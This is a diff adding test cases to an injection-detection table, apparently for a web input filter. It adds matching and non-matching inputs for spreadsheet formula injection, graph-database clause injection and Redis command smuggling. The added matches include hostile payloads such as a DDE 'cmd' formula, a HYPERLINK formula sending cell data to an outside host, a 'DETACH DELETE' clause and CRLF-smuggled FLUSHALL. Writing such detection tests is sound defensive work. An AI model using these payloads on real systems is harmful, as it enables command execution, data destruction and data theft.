@@ -56,6 +56,18 @@ export const injectionCases: CaseTable = {
     matches: ["&(*)|", form("(*)&|!")],
     passes: ["(*)", "a*(b|c)&d", ":-)"],
   },
+  "wc-injection-formula": {
+    matches: ["=cmd|'/c calc'!A0", form('=HYPERLINK("http://e/?a="&A1,"b")'), json({ a: '@dde("cmd")' })],
+    passes: ["=SUM(A1:A5)", form('=HYPERLINK("https://e/","b")'), "+49 30 1234", "a|'b'!c"],
+  },
+  "wc-nosql-graph-clause": {
+    matches: ["x'}) RETURN n //", form("a'}) DETACH DELETE m //")],
+    passes: ["don't (ever) return it", "MATCH (n) RETURN n", form("it's a match (of two)")],
+  },
+  "wc-nosql-command": {
+    matches: ["k\r\nFLUSHALL\r\n", cookie("*1\r\n$8\r\nflushall\r\n")],
+    passes: ["FLUSHALL", "a\nset of b", form("k\r\nFLUSHALL\r\n")],
+  },
   "wc-injection-mail-command": {
     matches: ["x\r\nA1 LOGOUT\r\n", form("9\nV100 FETCH 1")],
     passes: ["A1 LOGOUT", form("rows\nA1 total"), "x\nlist of things"],
